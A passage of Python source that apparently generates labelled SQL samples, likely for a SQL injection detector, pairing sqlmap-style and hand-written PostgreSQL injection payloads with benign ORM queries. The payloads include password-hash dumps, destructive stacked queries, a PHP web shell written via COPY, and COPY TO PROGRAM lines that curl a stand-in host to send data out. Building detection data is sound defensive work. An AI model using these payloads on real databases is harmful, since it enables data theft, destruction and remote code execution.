      "(SELECT CONCAT(CONCAT('%s',(CASE WHEN (%s) THEN '1' ELSE '0' END)),'%s'))" % (D1, inf, D2)),
     ("MySQL inline queries", "MySQL", "sqlmap_inline_query", "r",
      "(SELECT CONCAT(0x%s,(ELT(%s,1)),0x%s))" % (D1.encode().hex(), inf, D2.encode().hex())),
     ("PostgreSQL > 8.1 stacked queries (comment)", "PostgreSQL", "sqlmap_stacked_queries", "sc",
      ";SELECT (CASE WHEN (%s) THEN (SELECT %s FROM PG_SLEEP(%s)) ELSE %s END)" % (inf, R[1], SL, R[1]) if vector else ";SELECT PG_SLEEP(%s)" % SL),
     ("PostgreSQL > 8.1 stacked queries", "PostgreSQL", "sqlmap_stacked_queries", "s", ";SELECT PG_SLEEP(%s)" % SL),
     ("PostgreSQL stacked queries (heavy query - comment)", "PostgreSQL", "sqlmap_stacked_queries", "sc",
      ";SELECT COUNT(*) FROM GENERATE_SERIES(1,%s)" % HV),
     ("PostgreSQL < 8.2 stacked queries (Glibc - comment)", "PostgreSQL", "sqlmap_stacked_queries", "sc",
      ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%s)" % SL),
     ("Microsoft SQL Server/Sybase stacked queries (comment)", "Microsoft SQL Server", "sqlmap_stacked_queries", "sc",
      ";WAITFOR DELAY '0:0:%s'" % SL),
     ("MySQL >= 5.0.12 stacked queries (comment)", "MySQL", "sqlmap_stacked_queries", "sc", ";SELECT SLEEP(%s)" % SL),
     ("Oracle stacked queries (DBMS_LOCK.SLEEP - comment)", "Oracle", "sqlmap_stacked_queries", "sc",
      ";BEGIN DBMS_LOCK.SLEEP(%s); END" % SL),
     ("SQLite > 2.0 stacked queries (heavy query - comment)", "SQLite", "sqlmap_stacked_queries", "sc",
      ";SELECT LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%s00000000/2))))" % SL),
     ("PostgreSQL > 8.1 AND time-based blind", "PostgreSQL", "sqlmap_time_blind", "w",
      "AND %s=(SELECT %s FROM PG_SLEEP(%s))" % (R[1], R[1], SL) if not vector else "AND %s=(CASE WHEN (%s) THEN (SELECT %s FROM PG_SLEEP(%s)) ELSE %s END)" % (R[1], inf, R[1], SL, R[1])),
     ("PostgreSQL > 8.1 OR time-based blind", "PostgreSQL", "sqlmap_time_blind", "w2", "OR %s=(SELECT %s FROM PG_SLEEP(%s))" % (R[1], R[1], SL)),
     ("PostgreSQL > 8.1 AND time-based blind (comment)", "PostgreSQL", "sqlmap_time_blind", "wc", "AND %s=(SELECT %s FROM PG_SLEEP(%s))" % (R[2], R[2], SL)),
     ("PostgreSQL AND time-based blind (heavy query)", "PostgreSQL", "sqlmap_time_blind", "w",
      "AND %s=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R[1], HV)),
     ("PostgreSQL OR time-based blind (heavy query - comment)", "PostgreSQL", "sqlmap_time_blind", "w2c",
      "OR %s=(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % (R[1], HV)),
     ("PostgreSQL > 8.1 time-based blind - Parameter replace", "PostgreSQL", "sqlmap_time_blind", "r", "(SELECT %s FROM PG_SLEEP(%s))" % (R[1], SL)),
     ("PostgreSQL time-based blind - Parameter replace (heavy query)", "PostgreSQL", "sqlmap_time_blind", "r",
      "(SELECT COUNT(*) FROM GENERATE_SERIES(1,%s))" % HV),
     ("PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", "PostgreSQL", "sqlmap_time_blind", "o", ",(SELECT %s FROM PG_SLEEP(%s))" % (R[1], SL)),
     ("MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "sqlmap_time_blind", "w",
      "AND (SELECT %s FROM (SELECT(SLEEP(%s)))%s)" % (R[1], SL, S)),
     ("MySQL >= 5.0.12 OR time-based blind (SLEEP)", "MySQL", "sqlmap_time_blind", "w2", "OR SLEEP(%s)" % SL),
     ("MySQL < 5.0.12 AND time-based blind (BENCHMARK)", "MySQL", "sqlmap_time_blind", "w",
      "AND %s=BENCHMARK(%s000000,MD5(0x%s))" % (R[1], SL, S.encode().hex())),
     ("Microsoft SQL Server/Sybase time-based blind (IF)", "Microsoft SQL Server", "sqlmap_time_blind", "wc", "WAITFOR DELAY '0:0:%s'" % SL),
     ("Microsoft SQL Server/Sybase AND time-based blind (heavy query)", "Microsoft SQL Server", "sqlmap_time_blind", "w",
      "AND %s=(SELECT COUNT(*) FROM sysusers AS sys1,sysusers AS sys2,sysusers AS sys3,sysusers AS sys4,sysusers AS sys5,sysusers AS sys6)" % R[1]),
     ("Oracle AND time-based blind", "Oracle", "sqlmap_time_blind", "w",
      "AND %s=DBMS_PIPE.RECEIVE_MESSAGE(CHR(%d)||CHR(%d)||CHR(%d)||CHR(%d),%s)" % (R[1], *[ord(c) for c in S], SL)),
     ("SQLite > 2.0 OR time-based blind (heavy query)", "SQLite", "sqlmap_time_blind", "w2",
      "OR %s=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%s00000000/2))))" % (R[1], SL)),
     ("HSQLDB >= 1.7.2 AND time-based blind (heavy query)", "HSQLDB", "sqlmap_time_blind", "w",
      "AND CHAR(%s)=REGEXP_SUBSTRING(REPEAT(RIGHT(CHAR(%s),0),%s00000000),NULL)" % (R[1], R[1], SL)),
     ("IBM DB2 AND time-based blind (heavy query)", "IBM DB2", "sqlmap_time_blind", "w",
      "AND %s=(SELECT COUNT(*) FROM SYSIBM.SYSTABLES AS T1,SYSIBM.SYSTABLES AS T2,SYSIBM.SYSTABLES AS T3)" % R[1]),
     ("ClickHouse AND time-based blind (heavy query)", "ClickHouse", "sqlmap_time_blind", "w",
      "AND %s=(SELECT COUNT(fuzzBits('%s', 0.001)) FROM numbers(%s000000))" % (R[1], S, SL)),
     ("Informix AND time-based blind (heavy query)", "Informix", "sqlmap_time_blind", "w",
      "AND %s=(SELECT COUNT(*) FROM SYSMASTER:SYSPAGHDR)" % R[1]),
    ]
    return out

def union_payload(rng, dbms):
    ncols = rng.randint(1, 9)
    pos = rng.randrange(ncols)
    D1, D2, S = delim(rng), delim(rng), rword(rng, 10)
    cols = []
    filler = rng.choice(["NULL", "NUM"])
    for i in range(ncols):
        if i == pos:
            if dbms == "MySQL":
                cols.append("CONCAT(0x%s,0x%s,0x%s)" % (D1.encode().hex(), S.encode().hex(), D2.encode().hex()))
            elif rng.random() < 0.5:
                cols.append("(%s)||(%s)||(%s)" % (chrs(D1), chrs(S), chrs(D2)))
            else:
                cols.append("'%s'||'%s'||'%s'" % (D1, S, D2))
        else:
            cols.append("NULL" if filler == "NULL" else str(rng.randint(1000, 9999)))
    title = "%s UNION query (%s) - %d to %d columns" % ("MySQL" if dbms == "MySQL" else "Generic", "NULL" if filler == "NULL" else "[RANDNUM]", (ncols - 1) // 10 * 10 + 1, (ncols - 1) // 10 * 10 + 10)
    kw = rng.choice(["UNION ALL SELECT", "UNION ALL SELECT", "UNION SELECT"])
    return title, "%s %s" % (kw, ",".join(cols))

# ---------------------------------------------------------------- hand-written payload cores
# mode: cond | stack | union | value | concat
def hand_cores(rng):
    n1, n2 = rng.randint(2, 97), rng.randint(100, 999)
    w = rword(rng, 5)
    fn = rword(rng, 6)
    host = rword(rng, 6) + ".example"
    sl = rng.choice([4, 6, 9, 13])
    path = rng.choice(["/etc/passwd", "/etc/hostname", "postgresql.auto.conf", "pg_hba.conf", "/proc/self/environ", "../../../../etc/shadow"])
    C = {
     "tautology": [
        ("or_num_eq", "cond", "OR %d=%d" % (n1, n1)), ("or_str_eq", "cond", "OR '%s'='%s'" % (w, w)),
        ("or_true", "cond", "OR true"), ("or_not_false", "cond", "OR NOT false"), ("or_gt", "cond", "OR %d>%d" % (n2, n1)),
        ("or_is_null", "cond", "OR NULL IS NULL"), ("or_like", "cond", "OR '%s' LIKE '%%'" % w),
        ("or_between", "cond", "OR %d BETWEEN %d AND %d" % (n1, n1 - 1, n1 + 1)), ("or_in", "cond", "OR %d IN (%d,%d)" % (n1, n2, n1)),
        ("or_cast_bool", "cond", "OR 't'::boolean"), ("or_neq", "cond", "OR %d<>%d" % (n1, n2)), ("or_exists", "cond", "OR EXISTS(SELECT 1)"),
        ("or_any", "cond", "OR %d = ANY(ARRAY[%d,%d])" % (n1, n1, n2)), ("or_length", "cond", "OR length('%s')=%d" % (w, len(w))),
        ("or_case", "cond", "OR CASE WHEN %d>0 THEN true END" % n1), ("or_isnotdistinct", "cond", "OR 1 IS NOT DISTINCT FROM 1")],
     "boolean_blind": [
        ("substr_pass", "cond", "AND substr((SELECT rolpassword FROM pg_authid WHERE rolname='postgres'),%d,1)='%s'" % (rng.randint(1, 9), rng.choice("abcdef0123456789"))),
        ("ascii_user", "cond", "AND ascii(substr(current_user,%d,1))>%d" % (rng.randint(1, 6), rng.randint(60, 110))),
        ("exists_table", "cond", "AND EXISTS(SELECT 1 FROM information_schema.tables WHERE table_name='%s')" % rng.choice(["api_tokens", "staff_secrets", "payment_cards"])),
        ("len_db", "cond", "AND length(current_database())=%d" % rng.randint(3, 14)),
        ("starts_with_version", "cond", "AND starts_with(version(),'PostgreSQL 1%d')" % rng.randint(2, 7)),
        ("super_check", "cond", "AND (SELECT usesuper FROM pg_user WHERE usename=current_user)"),
        ("count_roles", "cond", "AND (SELECT count(*) FROM pg_roles)>%d" % rng.randint(3, 30)),
        ("bit_probe", "cond", "AND (ascii(substr(session_user,1,1))&%d)>0" % rng.choice([1, 2, 4, 8, 16, 32, 64]))],
     "time_pg_sleep": [
        ("and_sleep_sub", "cond", "AND 1=(SELECT 1 FROM pg_sleep(%d))" % sl), ("or_sleep_cast", "cond", "OR pg_sleep(%d)::text=''" % sl),
        ("sleep_for", "cond", "AND (SELECT pg_sleep_for('%d seconds')) IS NULL" % sl),
        ("sleep_until", "cond", "OR (SELECT pg_sleep_until(now() + interval '%d sec')) IS NOT NULL" % sl),
        ("case_sleep", "cond", "AND (CASE WHEN current_user LIKE 'p%%' THEN pg_sleep(%d) END) IS NULL" % sl),
        ("stack_sleep", "stack", "SELECT pg_sleep(%d)" % sl), ("value_sleep", "value", "(SELECT %d FROM pg_sleep(%d))" % (n1, sl))],
     "error_cast": [
        ("cast_version", "cond", "AND 1=CAST(version() AS int)"), ("cast_user_num", "cond", "AND CAST(current_user AS numeric)=1"),
        ("colon_cast", "cond", "AND (SELECT string_agg(usename,':') FROM pg_user)::int=1"),
        ("xml_cast", "cond", "AND 1=query_to_xml('select rolpassword from pg_authid',true,true,'')::text::int"),
        ("int_overflow", "cond", "AND (SELECT '%s'||current_database())::integer>0" % w),
        ("jsonb_cast", "cond", "AND to_jsonb(current_setting('server_version'))::int=1"),
        ("value_cast", "value", "(SELECT inet_server_addr()::text::int)")],
     "union": [
        ("union_shadow", "union", "UNION SELECT usename, passwd FROM pg_shadow"),
        ("union_all_authid", "union", "UNION ALL SELECT rolname, rolpassword FROM pg_authid"),
        ("union_tables", "union", "UNION SELECT table_schema||'.'||table_name, NULL FROM information_schema.tables"),
        ("union_settings", "union", "UNION SELECT name, setting FROM pg_settings WHERE name LIKE '%%dir%%'"),
        ("union_paren", "union", "UNION (SELECT current_user, version())"),
        ("union_values", "union", "UNION VALUES (current_database(), inet_server_port()::text)")],
     "stacked": [
        ("drop_table", "stack", "DROP TABLE %s" % rng.choice(["ledger_entries", "hr_people", "appt_slots", "access_badges"])),
        ("truncate", "stack", "TRUNCATE %s CASCADE" % rng.choice(["payroll_runs", "track_plays", "security_audit"])),
        ("create_role", "stack", "CREATE ROLE %s LOGIN SUPERUSER PASSWORD '%s'" % (w, rword(rng, 8))),
        ("alter_user", "stack", "ALTER USER postgres WITH PASSWORD '%s'" % rword(rng, 9)),
        ("grant_all", "stack", "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC"),
        ("update_admin", "stack", "UPDATE staff_accounts SET is_admin = true WHERE login = '%s'" % w),
        ("insert_backdoor", "stack", "INSERT INTO api_credentials (owner, secret) VALUES ('%s', md5(random()::text))" % w),
        ("set_role", "stack", "SET ROLE postgres"), ("delete_all", "stack", "DELETE FROM %s" % rng.choice(["lab_results", "charity_pledges", "forum_threads"]))],
     "oob_file_program": [
        ("copy_program_curl", "stack", "COPY (SELECT current_user) TO PROGRAM 'curl -s http://%s/$(whoami)'" % host),
        ("copy_program_sh", "stack", "CREATE TEMP TABLE %s(o text); COPY %s FROM PROGRAM 'id; uname -a'" % (w, w)),
        ("copy_to_file", "stack", "COPY (SELECT '<?php system($_GET[c]); ?>') TO '/var/www/html/%s.php'" % w),
        ("copy_from_file", "stack", "COPY %s FROM '%s'" % (w, path)),
        ("lo_import", "stack", "SELECT lo_import('%s', %d)" % (path, rng.randint(10000, 99999))),
        ("lo_export", "stack", "SELECT lo_export(%d, '/tmp/%s.so')" % (rng.randint(10000, 99999), w)),
        ("pg_read_file", "cond", "AND length(pg_read_file('%s'))>0" % path),
        ("pg_read_binary", "union", "UNION SELECT encode(pg_read_binary_file('%s'),'base64'), NULL" % path),
        ("pg_ls_dir", "union", "UNION SELECT pg_ls_dir('.'), NULL"),
        ("dblink_exfil", "stack", "SELECT dblink_connect('host=%s user=u password='||(SELECT rolpassword FROM pg_authid LIMIT 1)||' dbname=d')" % host),
        ("dblink_exec", "stack", "SELECT * FROM dblink('host=%s dbname=x', 'SELECT 1') AS t(a int)" % host),
        ("dns_exfil_copy", "stack", "COPY (SELECT 1) TO PROGRAM 'nslookup '||current_user||'.%s'" % host),
        ("stat_file", "cond", "AND (pg_stat_file('%s')).size>0" % path)],
     "plpgsql_do_exec": [
        ("do_execute", "stack", "DO $$ BEGIN EXECUTE 'DROP TABLE ' || '%s'; END $$" % rng.choice(["hr_people", "ledger_entries"])),
        ("do_tag_loop", "stack", "DO $%s$ DECLARE r record; BEGIN FOR r IN SELECT tablename FROM pg_tables WHERE schemaname='public' LOOP EXECUTE 'TRUNCATE ' || quote_ident(r.tablename); END LOOP; END $%s$" % (w, w)),
        ("do_raise", "stack", "DO $$ BEGIN RAISE EXCEPTION '%', (SELECT string_agg(rolname||':'||rolpassword, ',') FROM pg_authid); END $$"),
        ("create_func_c", "stack", "CREATE OR REPLACE FUNCTION %s(text) RETURNS int AS '/tmp/%s.so', 'run' LANGUAGE C STRICT" % (fn, w)),
        ("create_func_plpgsql", "stack", "CREATE FUNCTION %s() RETURNS trigger AS $b$ BEGIN PERFORM pg_sleep(%d); RETURN NEW; END $b$ LANGUAGE plpgsql" % (fn, sl)),
        ("do_copy_program", "stack", "DO LANGUAGE plpgsql $$ BEGIN EXECUTE format('COPY (SELECT 1) TO PROGRAM %%L', 'touch /tmp/%s'); END $$" % w)],
     "string_concat_subquery": [
        ("concat_user", "concat", "current_user"), ("concat_version", "concat", "version()"),
        ("concat_sub", "concat", "(SELECT string_agg(usename||'/'||coalesce(passwd,''), ';') FROM pg_shadow)"),
        ("concat_setting", "concat", "current_setting('data_directory')"),
        ("concat_ip", "concat", "inet_server_addr()::text"), ("concat_tables", "concat", "(SELECT count(*) FROM pg_class)::text")],
     "dollar_quote": [
        ("or_dollar_eq", "cond", "OR $$%s$$=$$%s$$" % (w, w)), ("or_tag_eq", "cond", "OR $t$%s$t$ = $t$%s$t$" % (w, w)),
        ("stack_dollar_insert", "stack", "INSERT INTO staff_accounts (login, pw) VALUES ($$%s$$, $$x$$)" % w),
        ("union_dollar", "union", "UNION SELECT $$%s$$, rolname FROM pg_roles" % w),
        ("cast_dollar", "cond", "AND 1=CAST($q$%s$q$||version() AS int)" % w),
        ("sleep_dollar", "cond", "AND pg_sleep_for($x$%d sec$x$) IS NULL" % sl)],
     "e_escape": [
        ("e_hex_eq", "cond", "OR E'\\x%02x'=E'\\x%02x'" % (ord(w[0]), ord(w[0]))),
        ("e_octal_user", "cond", "OR current_user=E'\\160\\157stgres'"),
        ("e_unicode", "cond", "OR E'\\u0061'='a'"),
        ("u_amp", "cond", "OR U&'\\0061\\0064min'='admin'"),
        ("u_amp_uescape", "cond", "OR U&'!0031' UESCAPE '!'='1'"),
        ("e_stack", "stack", "DELETE FROM hr_people WHERE family_name=E'\\x25' OR true"),
        ("chr_concat", "cond", "OR CHR(%d)||CHR(%d)=CHR(%d)||CHR(%d)" % (ord(w[0]), ord(w[1]), ord(w[0]), ord(w[1]))),
        ("convert_from", "cond", "OR convert_from(decode('%s','hex'),'UTF8')='%s'" % (w.encode().hex(), w))],
    }
    return C
# ---------------------------------------------------------------- complex benign statements
def complex_gens():
    G = []
    def add(name, fam):
        def deco(f):
            G.append((name, fam, f))
            return f
        return deco
    @add("cx8_django_slots_filter", "complex_orm_generated")
    def _(r):
        return ('SELECT "clinic_apptslot"."id", "clinic_apptslot"."starts_at", "clinic_apptslot"."clinician_id" FROM "clinic_apptslot" '
                'INNER JOIN "clinic_clinician" ON ("clinic_apptslot"."clinician_id" = "clinic_clinician"."id") WHERE ("clinic_clinician"."active" '
                'AND "clinic_apptslot"."starts_at" >= \'%s\'::timestamptz) ORDER BY "clinic_apptslot"."starts_at" ASC LIMIT %d' % (rdate(r) + " 00:00:00+00:00", r.choice([10, 21, 50])))
    @add("cx8_sqlalchemy_ledger", "complex_orm_generated")
    def _(r):
        return ("SELECT ledger_entries.entry_id AS ledger_entries_entry_id, ledger_entries.amount AS ledger_entries_amount \nFROM ledger_entries \n"
                "WHERE ledger_entries.account_no = '%s' AND ledger_entries.amount > %s ORDER BY ledger_entries.booked_at DESC \n LIMIT %d OFFSET %d" % ("ACC-%05d" % r.randint(1, 99999), r.choice(["0", "100.00", "12.5"]), r.choice([20, 50]), r.choice([0, 20, 40, 100])))
    @add("cx8_hibernate_payroll", "complex_orm_generated")
    def _(r):
        a = r.randint(1, 9)
        return ("select p1_0.run_id,p1_0.employee_ref,p1_0.net_pay,p1_0.pay_period from payroll_runs p1_0 where p1_0.employee_ref=? and p1_0.pay_period between ? and ?"
                if r.random() < 0.3 else
                "select p1_0.run_id,p1_0.net_pay from payroll_runs p1_0 where p1_0.employee_ref='EMP-%04d' and p1_0.net_pay>%d order by p1_0.pay_period desc fetch first %d rows only" % (r.randint(1, 9999), r.randint(100, 3000), a))
    @add("cx8_activerecord_enrol", "complex_orm_generated")
    def _(r):
        return ('SELECT "course_enrolments".* FROM "course_enrolments" WHERE "course_enrolments"."course_code" = $1 AND "course_enrolments"."cohort" IN ($2, $3) /* loaded from: EnrolmentsController#index */'
                if r.random() < 0.3 else
                'SELECT COUNT(*) FROM "course_enrolments" WHERE "course_enrolments"."course_code" = \'%s\' AND "course_enrolments"."withdrawn_at" IS NULL' % r.choice(["STAT-201", "BIO-110", "HIST-330", "CS-101"]))
    @add("cx8_prisma_forum", "complex_orm_generated")
    def _(r):
        return ('SELECT "public"."forum_threads"."thread_id", "public"."forum_threads"."subject" FROM "public"."forum_threads" WHERE ("public"."forum_threads"."board_slug" = \'%s\' AND "public"."forum_threads"."locked" = false) ORDER BY "public"."forum_threads"."last_post_at" DESC LIMIT %d OFFSET %d'
                % (r.choice(["general", "off-topic", "announcements", "help"]), r.choice([10, 25]), r.choice([0, 25, 50])))
    @add("cx8_ecto_tracks", "complex_orm_generated")
    def _(r):
        return 'SELECT m0."track_id", m0."title", m0."duration_ms" FROM "music_tracks" AS m0 WHERE (m0."album_id" = %d) AND (m0."explicit" = FALSE) ORDER BY m0."disc_no", m0."track_no"' % r.randint(1, 50000)
    @add("cx8_gorm_claims", "complex_orm_generated")
    def _(r):
        return 'SELECT * FROM "warranty_claims" WHERE status = \'%s\' AND "warranty_claims"."deleted_at" IS NULL ORDER BY opened_at desc LIMIT %d' % (r.choice(["open", "in_review", "escalated"]), r.choice([10, 100]))
    @add("cx8_sequelize_listings", "complex_orm_generated")
    def _(r):
        return 'SELECT "listing_id", "asking_price", "town" FROM "property_listings" AS "Listing" WHERE "Listing"."asking_price" BETWEEN %d AND %d AND "Listing"."town" IN (\'Leith\', \'Portobello\') ORDER BY "Listing"."asking_price" ASC LIMIT %d;' % (r.randint(100, 300) * 1000, r.randint(301, 900) * 1000, r.choice([12, 24]))
    @add("cx8_typeorm_tickets", "complex_orm_generated")
    def _(r):
        return 'SELECT "Case"."case_no" AS "Case_case_no", "Case"."state" AS "Case_state" FROM "helpdesk_cases" "Case" WHERE "Case"."assignee_id" = %d AND "Case"."state" <> \'closed\'' % r.randint(1, 900)
    @add("cx8_diesel_badges", "complex_orm_generated")
    def _(r):
        return 'SELECT "access_badges"."badge_no", "access_badges"."holder_name" FROM "access_badges" WHERE "access_badges"."site_id" = ANY($1) AND NOT "access_badges"."revoked"'
    @add("cx8_pg_attribute_introspect", "complex_orm_introspection")
    def _(r):
        return ("SELECT a.attname, format_type(a.atttypid, a.atttypmod), a.attnotnull FROM pg_attribute a WHERE a.attrelid = '%s'::regclass AND a.attnum > 0 AND NOT a.attisdropped ORDER BY a.attnum"
                % r.choice(["ledger_entries", "appt_slots", "public.hr_people", "forum_threads", "track_plays"]))
    @add("cx8_jdbc_probe", "complex_orm_introspection")
    def _(r):
        return r.choice(["SELECT typname, oid FROM pg_type WHERE typname IN ('hstore', 'citext', 'geometry')", "SHOW transaction_isolation",
                         "SELECT pg_backend_pid()", "SET extra_float_digits = 3", "SET application_name = 'PostgreSQL JDBC Driver'",
                         "SELECT current_schemas(false)", "SHOW server_encoding", "SELECT oid, typarray FROM pg_type WHERE typname = 'jsonb'"])
    @add("cx8_cte_ledger_running", "complex_cte_window")
    def _(r):
        return ("WITH daily AS (SELECT booked_at::date AS d, sum(amount) AS net FROM ledger_entries WHERE account_no = 'ACC-%05d' GROUP BY 1) "
                "SELECT d, net, sum(net) OVER (ORDER BY d ROWS BETWEEN UNBOUNDED PRECEDING AND CURRENT ROW) AS running FROM daily ORDER BY d" % r.randint(1, 99999))
    @add("cx8_cte_parcel_latest", "complex_cte_window")
    def _(r):
        return ("WITH last_scan AS (SELECT DISTINCT ON (tracking_ref) tracking_ref, depot, scan_at FROM parcel_scans WHERE scan_at > now() - interval '%d days' ORDER BY tracking_ref, scan_at DESC) "
                "SELECT depot, count(*) FROM last_scan GROUP BY depot HAVING count(*) > %d ORDER BY 2 DESC" % (r.randint(1, 14), r.randint(1, 50)))
    @add("cx8_window_plays_pct", "complex_cte_window")
    def _(r):
        return ("SELECT track_id, plays, percent_rank() OVER w AS pr, lead(plays) OVER w AS next_plays FROM track_play_totals WHERE genre = '%s' WINDOW w AS (ORDER BY plays DESC)"
                % r.choice(["ambient", "drum and bass", "k-pop", "bluegrass", "afrobeat"]))
    @add("cx8_recursive_threads", "complex_cte_window")
    def _(r):
        return ("WITH RECURSIVE tree AS (SELECT post_id, parent_id, 1 AS lvl FROM forum_posts WHERE post_id = %d UNION ALL SELECT p.post_id, p.parent_id, t.lvl + 1 FROM forum_posts p JOIN tree t ON p.parent_id = t.post_id WHERE t.lvl < %d) SELECT * FROM tree"
                % (r.randint(1, 999999), r.randint(3, 12)))
    @add("cx8_union_claim_states", "complex_union_report")
    def _(r):
        y = r.randint(2019, 2025)
        return ("SELECT 'open' AS bucket, count(*) FROM warranty_claims WHERE closed_at IS NULL AND opened_at >= '%d-01-01' UNION ALL SELECT 'closed', count(*) FROM warranty_claims WHERE closed_at IS NOT NULL AND opened_at >= '%d-01-01' UNION ALL SELECT 'escalated', count(*) FROM warranty_claims WHERE escalated AND opened_at >= '%d-01-01'" % (y, y, y))
    @add("cx8_except_badges", "complex_union_report")
    def _(r):
        return "SELECT holder_name FROM access_badges WHERE site_id = %d EXCEPT SELECT holder_name FROM access_badges WHERE revoked INTERSECT SELECT full_name FROM hr_people WHERE dept_code = %d" % (r.randint(1, 60), r.randint(1, 400))
    @add("cx8_copy_export", "complex_copy_stdin")
    def _(r):
        return r.choice(["COPY (SELECT scan_at, depot, status FROM parcel_scans WHERE scan_at::date = '%s') TO STDOUT WITH (FORMAT csv, HEADER, FORCE_QUOTE *)" % rdate(r),
                         "COPY ad_impressions_daily (creative_id, day, impressions) FROM STDIN WITH (FORMAT text, DELIMITER E'\\t', NULL '\\N')",
                         "COPY lab_results TO STDOUT WITH (FORMAT binary)",
                         "COPY (SELECT * FROM vendor_invoices WHERE gross > %d) TO STDOUT WITH CSV DELIMITER ';' QUOTE '\"'" % r.randint(10, 9000)])
    @add("cx8_batch_plays", "complex_batch_insert")
    def _(r):
        rows = ", ".join("(%d, %d, '%s', now() - interval '%d minutes')" % (r.randint(1, 99999), r.randint(1, 99999), r.choice(["ios/5.12.0", "android/4.9", "web", "car-play", "it''s-a-client"]), r.randint(1, 600)) for _ in range(r.randint(3, 7)))
        return "INSERT INTO track_plays (listener_id, track_id, client_agent, played_at) VALUES " + rows
    @add("cx8_batch_readings", "complex_batch_insert")
    def _(r):
        rows = ", ".join("('GH%d-%s', %.2f, '%s')" % (r.randint(1, 4), r.choice(["temp", "humid", "co2"]), r.uniform(0, 900), rdate(r)) for _ in range(r.randint(3, 8)))
        return "INSERT INTO greenhouse_readings (sensor_tag, value, taken_at) VALUES %s ON CONFLICT DO NOTHING" % rows
    @add("cx8_builtin_money", "complex_builtin_funcs")
    def _(r):
        return r.choice([
            "SELECT to_char(sum(amount), 'FM999G999G990D00') FROM ledger_entries WHERE account_no = 'ACC-%05d'" % r.randint(1, 99999),
            "SELECT round(avg(net_pay)::numeric, 2), percentile_cont(0.5) WITHIN GROUP (ORDER BY net_pay) FROM payroll_runs WHERE pay_period = '2024-%02d'" % r.randint(1, 12),
            "SELECT initcap(lower(given_name)) || ' ' || upper(family_name) FROM hr_people WHERE staff_no = %d" % r.randint(1, 99999),
            "SELECT regexp_replace(phone, '[^0-9+]', '', 'g') FROM hr_people WHERE staff_no = %d" % r.randint(1, 99999),
            "SELECT split_part(learner_email, '@', 2) AS domain, count(*) FROM course_enrolments GROUP BY 1 ORDER BY 2 DESC LIMIT %d" % r.randint(5, 30),
            "SELECT md5(member_code || '%s'), left(member_code, 3) FROM rewards_wallets LIMIT %d" % (rword(r, 6), r.randint(1, 9)),
            "SELECT date_part('isodow', worked_on), sum(hours_worked) FROM shift_hours GROUP BY 1 ORDER BY 1",
            "SELECT concat_ws(' / ', town, postcode), trunc(lat::numeric, 4), trunc(lon::numeric, 4) FROM property_listings WHERE listing_id = %d" % r.randint(1, 99999),
            "SELECT translate(msg_key, '.', '_'), length(msg_text), octet_length(msg_text) FROM i18n_messages WHERE locale = '%s'" % r.choice(["fr", "ja", "pt-BR"]),
            "SELECT greatest(lap_ms, %d), least(lap_ms, %d), nullif(rider_id, 0) FROM cycling_laps LIMIT 5" % (r.randint(1000, 9000), r.randint(9000, 99999)),
            "SELECT jsonb_pretty(specs), specs ? 'firmware', jsonb_array_length(specs->'ports') FROM edge_devices WHERE device_uid = '%s'" % rword(r, 12),
            "SELECT format('%%s-%%s', course_code, lpad(cohort::text, 3, '0')) FROM course_enrolments LIMIT %d" % r.randint(2, 50),
            "SELECT chr(%d) || string_agg(title, chr(10) ORDER BY title) FROM lesson_catalog WHERE course_code = 'CS-%d'" % (r.choice([9, 32, 45]), r.randint(100, 400)),
            "SELECT E'line one\\nline two', U&'caf\\00e9', $$it's fine$$",
            "SELECT age(now(), hired_on), justify_interval(interval '%d hours') FROM hr_people LIMIT 1" % r.randint(30, 900),
            "SELECT encode(sha256(convert_to(claim_no, 'UTF8')), 'hex') FROM warranty_claims WHERE claim_no = 'WC-2024-%04d'" % r.randint(1, 9999)])
    @add("cx8_comment_hint", "complex_comments_hints")
    def _(r):
        return r.choice([
            "/* svc=payroll-api route=/runs/:id trace=%s */ SELECT run_id, net_pay FROM payroll_runs WHERE run_id = %d" % (rword(r, 16), r.randint(1, 999999)),
            "/*+ IndexScan(ls ledger_entries_account_idx) */ SELECT * FROM ledger_entries ls WHERE account_no = 'ACC-%05d'" % r.randint(1, 99999),
            "SELECT count(*) FROM appt_slots WHERE starts_at::date = current_date -- dashboard tile #%d, refresh 60s" % r.randint(1, 99),
            "-- nightly purge, keep %d days\nDELETE FROM greenhouse_readings WHERE taken_at < now() - interval '%d days'" % ((lambda x: (x, x))(r.randint(30, 400))),
            "SELECT listing_id /* primary key */, asking_price /* GBP, incl. fees */ FROM property_listings WHERE listing_id = %d" % r.randint(1, 99999),
            "SELECT 1 -- healthcheck from lb-%d; don't remove" % r.randint(1, 9),
            "SELECT thread_id FROM forum_threads /* TODO: union with archived_threads once migrated; drop the view after */ WHERE board_slug = 'general' LIMIT %d" % r.randint(5, 50),
            "/* application='Reader', controller='bookmarks', action='index' */ SELECT * FROM reader_bookmarks WHERE reader_id = %d" % r.randint(1, 99999)])
    @add("cx8_ddl", "complex_ddl_migration")
    def _(r):
        return r.choice([
            "CREATE TABLE IF NOT EXISTS appt_slots_%d (LIKE appt_slots INCLUDING ALL)" % r.randint(2020, 2030),
            "ALTER TABLE ledger_entries ADD COLUMN IF NOT EXISTS reversal_of bigint REFERENCES ledger_entries(entry_id)",
            "CREATE INDEX CONCURRENTLY IF NOT EXISTS idx_plays_listener_%d ON track_plays (listener_id, played_at DESC)" % r.randint(1, 99),
            "ALTER TYPE case_state ADD VALUE IF NOT EXISTS 'on_hold_%d' AFTER 'awaiting_customer'" % r.randint(1, 99),
            "ALTER TABLE property_listings ALTER COLUMN asking_price TYPE numeric(12,2) USING asking_price::numeric(12,2)",
            "COMMENT ON COLUMN payroll_runs.net_pay IS 'Net pay after tax; don''t expose via API (v%d)'" % r.randint(1, 20)])
    @add("cx8_migration_script", "complex_migration_script")
    def _(r):
        v = r.randint(20230101000000, 20251231000000)
        return ("BEGIN;\nCREATE TABLE course_waitlist (id bigserial PRIMARY KEY, course_code text NOT NULL, learner_email text NOT NULL, added_at timestamptz NOT NULL DEFAULT now());\n"
